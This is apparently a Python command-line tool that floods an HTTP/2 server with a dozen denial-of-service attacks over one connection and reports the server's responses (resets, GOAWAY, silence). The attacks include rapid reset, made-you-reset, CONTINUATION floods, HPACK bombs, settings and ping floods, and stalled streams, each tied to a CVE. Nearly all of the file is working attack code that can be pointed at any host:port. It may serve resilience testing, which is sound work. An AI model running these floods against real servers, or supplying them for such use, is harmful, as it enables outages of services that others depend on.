#!/usr/bin/env python3
"""HTTP/2 abuse at full speed, one connection, and what the peer did about it.

  rapid-reset      requests, each reset at once (CVE-2023-44487)
  made-you-reset   requests, each followed by a frame that makes the peer reset it (CVE-2025-8671)
  continuation     one head that never ends: CONTINUATION after CONTINUATION (CVE-2024-27316)
  settings, ping   frames that each want an answer (CVE-2019-9512, CVE-2019-9515)
  priority         PRIORITY frames (CVE-2019-9513)
  window           WINDOW_UPDATE frames of one octet
  empty-data       empty DATA frames in one upload (CVE-2019-9518)
  empty-fields     one head of fields with empty names and values (CVE-2019-9516)
  hpack-bomb       a head of references to one large field in the dynamic table (CVE-2016-6581)
  crumbs           a head of many small cookie fields
  trailers-bomb    as hpack-bomb, in the trailers of an upload
  stalled          requests whose answers find no window, and nothing more (CVE-2019-9511, CVE-2019-9517)

`--count` is the number of frames (requests, fields). `--deaf` never reads while it sends. Prints `sent FRAMES`,
`answered STATUS COUNT`…, `resets CODE COUNT`…, `goaway CODE TEXT`, `received OCTETS`, and at last how the connection is:
`open` (it answered a PING), `closed`, `reset` or `silent` (it took everything and no PING came back).
"""

import argparse
import select
import socket
import struct
import sys
import time
from collections import Counter

import hpack

from http2_link import connect
from report import fail, say

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
LAST = b"farewell"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def integer(prefix, bits, value):
    """RFC 7541, section 5.1."""
    limit = (1 << bits) - 1
    if value < limit:
        return bytes([prefix | value])
    out, value = [prefix | limit], value - limit
    while value >= 128:
        out, value = out + [value % 128 | 128], value // 128
    return bytes(out + [value])


def text(octets):
    return integer(0, 7, len(octets)) + octets


def literal(name, value, indexed=False):
    """A field of a new name, without Huffman coding; `indexed` puts it into the dynamic table."""
    return (b"\x40" if indexed else b"\x00") + text(name) + text(value)


class Attack:
    def __init__(self, options):
        self.options = options
        # :method, :scheme and :path by the static table, :authority as a literal.
        scheme = b"\x87" if options.tls else b"\x86"
        path = b"\x04" + text(options.path.encode())
        rest = scheme + path + b"\x01" + text((options.host or options.target).encode())
        self.get, self.post = b"\x82" + rest, b"\x83" + rest
        self.stream = 1

    def request(self, block=None, end=True, flags=END_HEADERS):
        self.stream += 2
        return frame(HEADERS, flags | (END_STREAM if end else 0), self.stream - 2, block or self.get)

    def frames(self):
        """The attack, in pieces; each is some frames."""
        yield from getattr(self, self.options.attack.replace("-", "_"))(self.options.count)

    def rapid_reset(self, count):
        for _ in range(count):
            yield self.request() + frame(RST_STREAM, 0, self.stream - 2, struct.pack(">I", 8))

    def made_you_reset(self, count):
        for _ in range(count):
            # An increment of nothing is an error of the stream (RFC 9113, section 6.9).
            yield self.request(self.post, end=False) + frame(WINDOW_UPDATE, 0, self.stream - 2, struct.pack(">I", 0))

    def continuation(self, count):
        yield self.request(flags=0)
        block = b"".join(literal(b"x-%d" % n, b"v" * 50) for n in range(200))
        for _ in range(count):
            yield frame(CONTINUATION, 0, self.stream - 2, block)

    def settings(self, count):
        for _ in range(count):
            yield frame(SETTINGS, 0, 0)

    def ping(self, count):
        for number in range(count):
            yield frame(PING, 0, 0, struct.pack(">Q", number))

    def priority(self, count):
        for number in range(count):
            yield frame(PRIORITY, 0, number % 100 * 2 + 1, struct.pack(">IB", 0, 1))

    def window(self, count):
        for _ in range(count):
            yield frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))

    def empty_data(self, count):
        yield self.request(self.post, end=False)
        for _ in range(count):
            yield frame(DATA, 0, self.stream - 2)

    def in_pieces(self, block, end=True):
        """One head however long it is."""
        yield self.request(block[:16384], end, flags=END_HEADERS if len(block) <= 16384 else 0)
        for at in range(16384, len(block), 16384):
            yield frame(CONTINUATION, END_HEADERS if at + 16384 >= len(block) else 0, self.stream - 2,
                        block[at:at + 16384])

    def empty_fields(self, count):
        yield from self.in_pieces(self.get + literal(b"", b"") * count)

    def bomb(self, count):
        # The newest entry of the dynamic table has index 62.
        return literal(b"x-bomb", b"b" * 4000, indexed=True) + b"\xbe" * count

    def hpack_bomb(self, count):
        yield from self.in_pieces(self.get + self.bomb(count))

    def crumbs(self, count):
        yield from self.in_pieces(self.get + literal(b"cookie", b"a=1", indexed=True) + b"\xbe" * count)

    def trailers_bomb(self, count):
        yield self.request(self.post, end=False)
        self.stream -= 2
        yield from self.in_pieces(self.bomb(count))

    def stalled(self, count):
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
        for _ in range(count):
            yield self.request()


class Peer:
    """What came back."""

    def __init__(self):
        self.octets, self.buffer, self.state = 0, b"", None
        self.answers, self.resets, self.goaway = Counter(), Counter(), []
        self.heads = hpack.Decoder()
        self.to_say = b""

    def take(self, octets):
        self.octets += len(octets)
        self.buffer += octets
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                return
            kind, flags = self.buffer[3], self.buffer[4]
            payload, self.buffer = self.buffer[9:9 + length], self.buffer[9 + length:]
            self.see(kind, flags, payload)

    def see(self, kind, flags, payload):
        if kind == HEADERS:
            fields = dict((name, value) for name, value in self.heads.decode(payload))
            self.answers[fields.get(":status", "trailers")] += 1
        elif kind == RST_STREAM:
            self.resets[struct.unpack(">I", payload)[0]] += 1
        elif kind == GOAWAY:
            self.goaway.append((struct.unpack(">I", payload[4:8])[0], payload[8:].decode("utf-8", "replace")))
        elif kind == SETTINGS and not flags & ACK:
            self.to_say += frame(SETTINGS, ACK, 0)
        elif kind == PING and flags & ACK and payload == LAST:
            self.state = "open"


def run(options):
    peer, attack = Peer(), Attack(options)
    link = connect(options.target, options.tls, (options.host or options.target).split(":")[0], ("h2",))
    link.setblocking(False)
    pending, frames, sent, over = PREFACE + frame(SETTINGS, 0, 0), attack.frames(), 0, False
    end = time.monotonic() + options.seconds
    hold_until = None
    while peer.state is None and time.monotonic() < end:
        if not over and len(pending) < 65536:
            for piece in frames:
                pending, sent = pending + piece, sent + 1
                if len(pending) >= 65536:
                    break
            else:
                over = True
        if over and hold_until is None and not pending:
            hold_until = time.monotonic() + options.hold
        if hold_until and hold_until != end and time.monotonic() >= hold_until:
            pending, hold_until = pending + frame(PING, 0, 0, LAST), end
        pending, peer.to_say = pending + peer.to_say, b""
        listens = over or not options.deaf
        readable, writable, _ = select.select([link] if listens else [], [link] if pending else [], [], 0.05)
        try:
            if writable:
                pending = pending[send(link, pending):]
            # TLS may hold decrypted octets that select() does not see.
            if readable or (listens and options.tls):
                octets = receive(link)
                if octets == b"":
                    peer.state = "closed"
                elif octets:
                    peer.take(octets)
        except (ConnectionResetError, BrokenPipeError):
            peer.state = drain(link, peer)
    return sent, peer


def send(link, octets):
    try:
        return link.send(octets)
    except (BlockingIOError, OSError) as error:
        if isinstance(error, (ConnectionResetError, BrokenPipeError)):
            raise
        return 0


def receive(link):
    """None: nothing yet."""
    try:
        return link.recv(262144)
    except (ConnectionResetError, BrokenPipeError):
        raise
    except OSError:
        return None


def drain(link, peer):
    """What was said before the connection broke is still to be read."""
    try:
        while octets := link.recv(262144):
            peer.take(octets)
        return "closed"
    except OSError:
        return "reset"


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    names = [name for name in dir(Attack) if not name.startswith("_")]
    attacks = sorted(n.replace("_", "-") for n in names if n not in ("bomb", "frames", "in_pieces", "request"))
    parser.add_argument("attack", choices=attacks)
    parser.add_argument("--target", required=True, metavar="HOST:PORT")
    parser.add_argument("--host", help=":authority and SNI (default: the target)")
    parser.add_argument("--path", default="/")
    parser.add_argument("--tls", metavar="CA", help="a PEM file with the roots to trust; without it: clear text")
    parser.add_argument("--count", type=int, default=20000)
    parser.add_argument("--deaf", action="store_true")
    parser.add_argument("--hold", type=float, default=0, help="seconds to do nothing after the last frame")
    parser.add_argument("--seconds", type=float, default=20, help="how long in all")
    options = parser.parse_args()
    try:
        sent, peer = run(options)
    except (OSError, hpack.HPACKError) as error:
        fail(f"{type(error).__name__}: {error}")
    say("sent", sent)
    for status, count in sorted(peer.answers.items()):
        say("answered", status, count)
    for code, count in sorted(peer.resets.items()):
        say("resets", code, count)
    for code, words in peer.goaway:
        say("goaway", code, words)
    say("received", peer.octets)
    say(peer.state or "silent")


if __name__ == "__main__":
    sys.exit(main())
